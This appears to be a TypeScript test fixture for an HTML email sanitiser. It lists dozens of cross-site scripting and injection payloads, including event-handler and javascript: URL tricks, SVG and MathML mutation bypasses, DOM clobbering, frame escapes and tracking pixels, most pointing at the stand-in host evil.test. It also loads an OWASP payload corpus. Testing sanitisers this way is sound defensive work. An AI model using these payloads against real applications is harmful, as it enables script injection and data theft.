import { existsSync, readFileSync } from "node:fs";
import path from "node:path";
import { z } from "zod";

/** A mail's HTML that tries something; `set` says whose it is. */
export type Payload = { set: string; html: string };

/** Asked by every payload of ours that runs a script; nothing else on a page has this name. */
const RUN = "payloadRan()";
const HOST = "https://evil.test";

/** What we thought of ourselves, by what it tries. */
const OURS: Record<string, string[]> = {
  scripts: [
    `<script>${RUN}</script>`,
    `<script src="${HOST}/x.js"></script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<SCRIPT\n>${RUN}</SCRIPT\n>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  ],
  handlers: [
    `<img src=x onerror=${RUN}>`,
    `<img src=x:x onerror\n=\n"${RUN}">`,
    `<body onload=${RUN}>hello`,
    `<p onmouseover="${RUN}" style="width:600px;height:200px">hover</p>`,
    `<details open ontoggle=${RUN}><summary>x</summary></details>`,
    `<input autofocus onfocus=${RUN}>`,
    `<div style="animation-name:x" onanimationstart=${RUN}>x</div>`,
    `<p title="a>b<img src=x onerror=${RUN}>">x</p>`,
    `<a href="https://a.test/" title='"onmouseover="${RUN}"x="'>paypal.com</a>`,
    `<a href='mailto:a"onmouseover=${RUN}@b.test'>paypal.com</a>`,
  ],
  "script URLs": [
    `<a href="javascript:${RUN}">x</a>`,
    `<a href="java&#10;script&colon;${RUN}">x</a>`,
    `<a href="&#1;javascript:${RUN}">x</a>`,
    `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
    `<a href="vbscript:${RUN}">x</a>`,
    `<img src="javascript:${RUN}">`,
    `<iframe src="javascript:${RUN}"></iframe>`,
  ],
  "data URLs": [
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
    `<object data="data:text/html,<script>${RUN}</script>"></object>`,
    `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  ],
  "other namespaces": [
    `<svg onload=${RUN}>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
    `<svg></p><style><g title="</style><img src=x onerror=${RUN}>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
    `<svg><textarea><img src=x onerror=${RUN}></textarea></svg>`,
    `<table><td><xmp></td></table><img src=x onerror=${RUN}></xmp>`,
    `<!--><img src=x onerror=${RUN}>-->`,
    `<![CDATA[><img src=x onerror=${RUN}>]]>`,
    `<template><img src=x onerror=${RUN}></template>`,
    `<div><template shadowrootmode=open><img src=x onerror=${RUN}></template></div>`,
  ],
  styles: [
    `<style>@import url(${HOST}/x.css);body{background:url(${HOST}/bg.png)}</style>`,
    `<link rel=stylesheet href="${HOST}/x.css">`,
    `<p style="background:url(${HOST}/bg.png)">x</p>`,
    `<p style="background:u\\72l(${HOST}/bg.png)">x</p>`,
    `<p style="background:image-set('${HOST}/bg.png' 1x)">x</p>`,
    `<p style="list-style:url(${HOST}/x.png);cursor:url(${HOST}/c.cur),auto;content:url(${HOST}/y.png)">x</p>`,
    `<p style="font-family:'x';src:url(${HOST}/f.woff)">x</p>`,
    `<div style="--a:url(${HOST}/a.png);background:var(--a)">x</div>`,
  ],
  "leaving the frame": [
    `<meta http-equiv=refresh content="0;url=${HOST}/">`,
    `<meta http-equiv=refresh content="0;url=/tickets">`,
    `<base href="${HOST}/"><a href="tickets">x</a><img src="x.png">`,
    `<base target=_top><a href="${HOST}/">x</a>`,
    `<form action="${HOST}/" id=f><input name=q value=1><button autofocus>x</button></form><img src=x onerror=f.submit()>`,
    `<iframe srcdoc="<script>parent.${RUN};top.location='${HOST}'</script>"></iframe>`,
    `<iframe src="${HOST}/"></iframe>`,
    `<object data="${HOST}/x.html"></object><embed src="${HOST}/x.swf">`,
    `<frameset><frame src="${HOST}/"></frameset>`,
    `<portal src="${HOST}/"></portal><fencedframe src="${HOST}/"></fencedframe>`,
  ],
  "covering the app": [
    `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:99999">x</div>`,
    `<div style="position:absolute;inset:-9999px;background:red">x</div>`,
    `<div style="margin:-500px;width:5000px;height:900px;background:red">x</div>`,
    `<div style="width:99999999px;height:99999999px;background:red">x</div>`,
    `<table width=99999999 height=99999999 bgcolor=red><td>x</table>`,
    `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAAAAAAALAAAAAABAAEAAAICRAEAOw==" width=99999999 height=99999999>`,
    `<dialog open style="position:fixed;inset:0">x</dialog><div popover=auto id=p>x</div>`,
    `<p style="font-size:99999px;line-height:99999px;letter-spacing:9999px">x</p>`,
    `<div style="transform:scale(900);zoom:900">x</div>`,
  ],
  "names of ours": [
    `<form name=body><input name=firstChild></form><img name=getElementById id=mail>`,
    `<div id=mail><a id=location href="${HOST}/">x</a><a id=defaultView name=x>x</a></div>`,
    `</div></body></html><script>${RUN}</script>`,
    `<p class="remote target"><a href="?images=1">Load once</a></p>`,
  ],
  "calling home": [
    `<img src="${HOST}/pixel.gif" width=1 height=1>`,
    `<img src="//evil.test/pixel.gif">`,
    `<img src="\\\\evil.test\\pixel.gif"><img src="/\\evil.test/pixel.gif">`,
    `<img srcset="${HOST}/2x.png 2x, ${HOST}/1x.png 1x" src="">`,
    `<picture><source srcset="${HOST}/s.webp"><img src=x></picture>`,
    `<table background="${HOST}/bg.png"><td background="${HOST}/bg.png">x</table>`,
    `<body background="${HOST}/bg.png">x`,
    `<video poster="${HOST}/p.png" src="${HOST}/v.mp4" autoplay></video><audio src="${HOST}/a.mp3" autoplay></audio>`,
    `<link rel=prefetch href="${HOST}/"><link rel=dns-prefetch href="//evil.test"><link rel=preload as=image href="${HOST}/i.png">`,
    `<img lowsrc="${HOST}/x.png" dynsrc="${HOST}/x.avi"><input type=image src="${HOST}/x.png">`,
    `<a href="${HOST}/" ping="${HOST}/ping">x</a>`,
    `<bgsound src="${HOST}/x.wav"><applet code="${HOST}/x.class"></applet>`,
    `<svg><image href="${HOST}/x.png"/><use href="${HOST}/x.svg#a"/></svg>`,
  ],
};

/** Our payloads, in the order above. */
export function ourPayloads(): Payload[] {
  return Object.values(OURS).flatMap((list) => list.map((html) => ({ set: "ours", html })));
}

const withExpectation = z.array(z.object({ payload: z.string() }));
const bare = z.array(z.string());

/**
 * The payloads of the sanitiser corpus below CORPORA_DIR, or of ../shared/corpora; null, where there
 * is no such folder.
 */
export function corpusPayloads(): Payload[] | null {
  const folder = path.join(process.env.CORPORA_DIR ?? "../shared/corpora", "sanitiser");
  if (!existsSync(folder)) return null;
  const read = (file: string): unknown => JSON.parse(readFileSync(path.join(folder, file), "utf8"));
  return [
    ...withExpectation.parse(read("expect.json")).map(({ payload }) => payload),
    ...bare.parse(read("owasp-payloads.json")),
  ].map((html) => ({ set: "corpus", html }));
}
